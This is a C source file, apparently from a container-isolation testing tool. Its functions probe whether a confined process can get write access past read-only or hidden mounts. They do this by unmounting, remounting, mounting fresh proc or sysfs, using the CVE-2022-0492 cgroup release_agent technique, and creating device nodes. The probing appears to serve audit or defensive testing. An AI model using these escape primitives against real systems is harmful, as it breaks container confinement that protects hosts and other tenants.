// SPDX-License-Identifier: GPL-2.0
/* Ways to what mounts hide or protect. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "intruder.h"

/* What lies below the mount on argv[0] is what is wanted. */
int try_unmount(char **argv)
{
	if (umount2(argv[0], MNT_DETACH))
		return errno;
	return argv[1] ? open_write(AT_FDCWD, argv[1]) : 0;
}

/* argv[0] is where it is mounted, argv[1] what is to be written to. */
int try_remount(char **argv)
{
	struct mount_attr writable = { .attr_clr = MOUNT_ATTR_RDONLY };

	if (mount_setattr(AT_FDCWD, argv[0], 0, &writable, sizeof(writable)) &&
	    mount(NULL, argv[0], NULL, MS_REMOUNT | MS_BIND, NULL))
		return errno;
	return open_write(AT_FDCWD, argv[1]);
}

/* Another one, on which nothing is read-only or hidden. */
static int try_fresh(const char *type, const char *path)
{
	char target[] = "/tmp/fresh.XXXXXX";
	int dir;

	if (!mkdtemp(target))
		return errno;
	if (mount(type, target, type, 0, NULL))
		return errno;
	dir = open(target, O_PATH | O_DIRECTORY | O_CLOEXEC);
	return open_write(dir, path);
}

int try_fresh_proc(char **argv)
{
	return try_fresh("proc", argv[0]);
}

int try_fresh_sys(char **argv)
{
	return try_fresh("sysfs", argv[0]);
}

/* CVE-2022-0492: with the capabilities of a user namespace just made. */
int try_release_agent(char **argv)
{
	static const char * const controllers[] = {
		"rdma", "misc", "pids", "perf_event", "none,name=nslens"
	};
	int err = ENODEV;

	if (!strcmp(argv[0], "unshare") &&
	    unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP))
		return errno;
	if (mkdir("/tmp/cgroup", 0700) && errno != EEXIST)
		return errno;
	for (unsigned int i = 0; err && i < 5; i++)
		err = mount("cgroup", "/tmp/cgroup", "cgroup", 0,
			    controllers[i]) ? errno : 0;
	return err ?: open_write(AT_FDCWD, "/tmp/cgroup/release_agent");
}

/* In /dev, as what lies elsewhere may be mounted nodev outside already. */
int try_device(char **argv)
{
	char path[] = "/dev/way-out";
	int fd;

	unlink(path);
	if (mknod(path, S_IFCHR | 0600, makedev(atoi(argv[0]), atoi(argv[1]))))
		return errno;
	fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
	return fd < 0 ? errno : 0;
}
